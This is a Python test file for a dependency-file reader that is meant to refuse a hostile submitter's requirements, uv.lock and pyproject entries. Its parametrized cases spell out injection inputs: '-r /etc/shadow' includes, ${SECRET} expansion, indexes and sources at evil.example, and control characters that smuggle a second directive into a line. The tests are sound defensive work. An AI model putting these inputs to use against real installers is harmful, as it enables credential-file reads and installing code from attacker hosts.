"""Files of a hostile submitter, read where uv runs as another user: what uv gets is a text of ours, or nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from stoker.core.errors import BadInput
from stoker.core.machine import Platform
from stoker.jobs.pack.environment_files import EnvironmentSources, gather
from stoker.worker.environments.strict_requirements import Installation, read_installation
from tests.unit.worker.tiny_wheels import locked_project, wheel

LINUX = Platform(system="linux", machine="x86_64", libc="glibc 2.36", pythons=("3.11.2",))
DIGEST = "a" * 64


def read(project: Path, path: str = "requirements.txt", *, extras: tuple[str, ...] = ()) -> Installation:
    return read_installation(gather(str(project), path, extras=extras), str(project), LINUX, "3.11.2")


def written(project: Path, text: str | bytes, name: str = "requirements.txt") -> EnvironmentSources:
    """Write a file and return it as the environment's only source, whatever `gather` would say of it."""
    path = project / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return EnvironmentSources(kind="requirements", path=name, files=(name,), digest=DIGEST, python="")


def test_requirements_become_one_text_without_includes_comments_or_continuations(tmp_path: Path) -> None:
    wheel(str(tmp_path / "wheels"), "alpha")
    wheel(str(tmp_path / "links"), "gamma")
    (tmp_path / "requirements.txt").write_bytes(
        b"\xef\xbb\xbf# a comment\r\n"
        b"-r more.txt\r\n-c limits.txt\r\n--find-links links\n"
        b"Beta [fast,Slow] >= 1.0 , \\\n < 2 ; python_version>'3' # why\r\n"
        b"./wheels/alpha-1.0-py3-none-any.whl\n-e libs/mine\n" + b"delta==1 \\\n  --hash=sha256:" + DIGEST.encode()
    )
    (tmp_path / "more.txt").write_text("--requirement=requirements.txt\nepsilon\n")
    (tmp_path / "limits.txt").write_text("epsilon<3\n")
    (tmp_path / "libs/mine").mkdir(parents=True)
    (tmp_path / "libs/mine/pyproject.toml").write_text('[project]\nname = "mine"\ndependencies = ["zeta~=1.0"]\n')
    made = read(tmp_path)
    assert made.requirements == (
        "epsilon",
        'Beta[Slow,fast]<2,>=1.0; python_version > "3"',
        "./wheels/1/alpha-1.0-py3-none-any.whl",
        "zeta~=1.0",
        f"delta==1 --hash=sha256:{DIGEST}",
    )
    assert made.constraints == ("epsilon<3",)
    assert made.wheels == {
        "links/gamma-1.0-py3-none-any.whl": "links/gamma-1.0-py3-none-any.whl",
        "wheels/1/alpha-1.0-py3-none-any.whl": "wheels/alpha-1.0-py3-none-any.whl",
    }
    assert made.has_links
    assert not made.is_complete


@pytest.mark.parametrize(
    "text",
    [
        "${SECRET}",
        "alpha==${SECRET}",
        "alpha===$SECRET",
        'alpha; platform_release == "${SECRET}"',
        "-r ${HOME}/../etc/shadow",
        "-r /etc/shadow",
        '-r "/etc/shadow"',
        "-r '/etc/shadow'",
        "-r/etc/shadow",
        "-r ../../etc/shadow",
        "-r \\\n/etc/shadow",
        "--requirement=/etc/shadow",
        "--requirement = /etc/shadow",
        "--requirement /etc/shadow",
        "-r https://evil.example/more.txt",
        "-r file:///etc/shadow",
        "-r missing.txt",
        "-r requirements.txt /etc/shadow",
        "-c /etc/shadow",
        "--constraint=/etc/shadow",
        "--constraints /etc/shadow",
        "-i https://evil.example/simple",
        "--index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--find-links https://evil.example/",
        "--find-links /root",
        "-f /root",
        "-e /srv/project",
        "-e git+https://evil.example/p",
        "--editable=../..",
        "--trusted-host evil.example",
        "--no-binary :all:",
        "--config-settings x=y",
        "alpha --config-settings=x",
        "alpha --global-option=x",
        "alpha -r /etc/shadow",
        "alpha --hash=sha256:${SECRET}",
        "alpha --hash=md5:" + "0" * 32,
        "alpha @ file:///etc/shadow",
        "alpha @ https://evil.example/alpha-1.0-py3-none-any.whl",
        "alpha@file:///etc/shadow",
        "git+https://evil.example/p#egg=alpha",
        "https://evil.example/alpha-1.0-py3-none-any.whl",
        "file:///etc/shadow",
        "file:wheels/alpha-1.0-py3-none-any.whl",
        "/etc/shadow",
        "/srv/alpha-1.0-py3-none-any.whl",
        "../alpha-1.0-py3-none-any.whl",
        "./alpha-1.0.tar.gz",
        '"alpha"',
        "alpha\x00beta",
        "alpha\x0c-r /etc/shadow",
        "alpha\u2028-r /etc/shadow",
        "alpha\u0085-r /etc/shadow",
        "alpha\r-r /etc/shadow",
        "alpha#egg=beta",
        "al#pha",
        "alpha\\ beta",
        "\ufeffalpha\n\ufeff-r /etc/shadow",
        "\u202ealpha",
    ],
)
def test_what_is_no_package_or_file_of_the_project_is_refused(tmp_path: Path, text: str) -> None:
    sources = written(tmp_path, text)
    with pytest.raises(BadInput) as caught:
        read_installation(sources, str(tmp_path), LINUX, "3.11.2")
    assert "\n" not in caught.value.message


def test_bytes_that_are_no_text_are_refused(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="no text"):
        read_installation(written(tmp_path, b"alpha\xff\xfe"), str(tmp_path), LINUX, "3.11.2")


def test_a_variable_is_refused_where_its_name_is_a_file_of_the_project(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/shadow").write_text("alpha\n")
    (tmp_path / "requirements.txt").write_text("-r ${HOME}/../etc/shadow\n")
    assert gather(str(tmp_path), "requirements.txt").files == ("etc/shadow", "requirements.txt")
    with pytest.raises(BadInput, match="not supported"):
        read(tmp_path)


def test_a_comment_hides_nothing_and_shows_nothing(tmp_path: Path) -> None:
    sources = written(tmp_path, "# -r /etc/shadow\nalpha  # -r /etc/shadow ${SECRET}\n")
    assert read_installation(sources, str(tmp_path), LINUX, "3.11.2").requirements == ("alpha",)


def test_a_lock_becomes_versions_with_their_hashes_and_nothing_is_resolved(tmp_path: Path) -> None:
    wheels = [wheel(str(tmp_path / "wheels"), name) for name in ("alpha", "beta")]
    locked_project(str(tmp_path), wheels)
    lock = tmp_path / "uv.lock"
    lock.write_text(
        lock.read_text().replace('    { name = "alpha" },', '    { name = "alpha" },\n    { name = "gamma" },')
        + f"""
[[package]]
name = "gamma"
version = "2.0+cpu"
source = {{ registry = "https://user:pass@evil.example/simple" }}
dependencies = [{{ name = "delta", marker = "sys_platform == 'win32'" }}]
wheels = [{{ url = "https://evil.example/gamma.whl", hash = "sha256:{DIGEST}" }}]

[[package]]
name = "delta"
version = "1.0"
source = {{ git = "https://evil.example/delta" }}
"""
    )
    made = read(tmp_path, "uv.lock")
    assert made.is_complete
    assert f"gamma==2.0+cpu --hash=sha256:{DIGEST}" in made.requirements
    assert len(made.requirements) == 3
    assert "evil" not in "\n".join(made.requirements)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('source = { path = "wheels/alpha-1.0-py3-none-any.whl" }', 'source = { git = "https://evil.example/a" }'),
        ('source = { path = "wheels/alpha-1.0-py3-none-any.whl" }', 'source = { url = "https://evil.example/a" }'),
        ('source = { path = "wheels/alpha-1.0-py3-none-any.whl" }', 'source = { path = "/srv/a-1-py3-none-any.whl" }'),
        ('source = { path = "wheels/alpha-1.0-py3-none-any.whl" }', 'source = { path = "../a-1-py3-none-any.whl" }'),
        ('source = { path = "wheels/alpha-1.0-py3-none-any.whl" }', 'source = { registry = "x" }#'),
        ('hash = "sha256:', 'hash = "sha256:${SECRET}'),
        ('    { name = "alpha" },', '    { name = "alpha", marker = "extra == \'x\'" },'),
    ],
)
def test_a_lock_that_names_other_places_is_refused(tmp_path: Path, old: str, new: str) -> None:
    wheels = [wheel(str(tmp_path / "wheels"), "alpha")]
    locked_project(str(tmp_path), wheels)
    sources = gather(str(tmp_path), "uv.lock")
    lock = tmp_path / "uv.lock"
    text = lock.read_text()
    assert old in text
    if new.endswith("#"):
        text = text.replace('name = "alpha"', 'name = "alpha ${SECRET}"')
    lock.write_text(text.replace(old, new.rstrip("#")))
    with pytest.raises(BadInput):
        read_installation(sources, str(tmp_path), LINUX, "3.11.2")


def test_a_project_file_gives_its_dependencies_and_the_extras_that_are_asked_for(tmp_path: Path) -> None:
    wheel(str(tmp_path / "wheels"), "alpha")
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "My.Study"\ndependencies = ["alpha", "beta>=1"]\n'
        '[project.optional-dependencies]\nall = ["my-study[cuda,all]"]\ncuda = ["gamma"]\nother = ["delta"]\n'
        '[tool.uv.sources]\nAlpha = { path = "wheels/alpha-1.0-py3-none-any.whl" }\n'
        '[tool.uv]\nindex-url = "https://evil.example/simple"\n'
    )
    made = read(tmp_path, "pyproject.toml", extras=("all",))
    assert made.requirements == ("./wheels/0/alpha-1.0-py3-none-any.whl", "beta>=1", "gamma")


@pytest.mark.parametrize(
    "text",
    [
        'dependencies = ["alpha @ file:///etc/shadow"]',
        'dependencies = ["alpha==${SECRET}"]',
        'dependencies = "alpha"',
        'dependencies = ["alpha"]\n[tool.uv.sources]\nalpha = { git = "https://evil.example/alpha" }',
        'dependencies = ["alpha"]\n[tool.uv.sources]\nalpha = { index = "evil" }',
        'dependencies = ["alpha"]\n[tool.uv.sources]\nalpha = { path = "/srv/alpha-1.0-py3-none-any.whl" }',
        'dependencies = ["alpha"]\n[tool.uv.sources]\nalpha = [{ path = "a.whl" }]',
    ],
)
def test_a_project_file_that_names_other_places_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "pyproject.toml").write_text(f'[project]\nname = "study"\n{text}\n')
    sources = EnvironmentSources(
        kind="pyproject", path="pyproject.toml", files=("pyproject.toml",), digest=DIGEST, python=""
    )
    with pytest.raises(BadInput):
        read_installation(sources, str(tmp_path), LINUX, "3.11.2")
